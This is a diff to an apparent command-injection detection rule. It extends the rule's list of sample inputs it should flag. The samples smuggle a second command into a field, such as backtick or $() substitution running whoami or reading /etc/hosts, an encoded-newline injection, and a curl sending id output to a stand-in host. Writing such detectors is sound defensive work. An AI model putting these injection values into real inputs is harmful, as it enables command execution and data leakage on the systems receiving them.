@@ -54,7 +54,14 @@ export default defineRule({
   unless: [
     /\b(?:explain|what (?:is|are|does)|semantics|prevents?|prevented|preventing|block(?:s|ed)?|reject(?:s|ed)?|detects?|escap(?:e|es|ed|ing)|sanitiz\w{0,4}|protects?|vulnerab\w{0,8}|such as|e\.g|for example|attempts?|disallow\w{0,3}|denied|is (?:the|an|a)|lives at|why|logs?|attack)\b/,
   ],
-  match: ['report.txt; cat /etc/hosts', 'x && curl http://a.example/$(id)', 'name=$(whoami)', 'a|whoami'],
+  match: [
+    'name=`cat /etc/hosts`',
+    'host=127.0.0.1%0awhoami',
+    'report.txt; cat /etc/hosts',
+    'x && curl http://a.example/$(id)',
+    'name=$(whoami)',
+    'a|whoami',
+  ],
   clean: [
     ['name: Ada; city: London', 'a list'],
     ['price = $(10)', 'a number'],
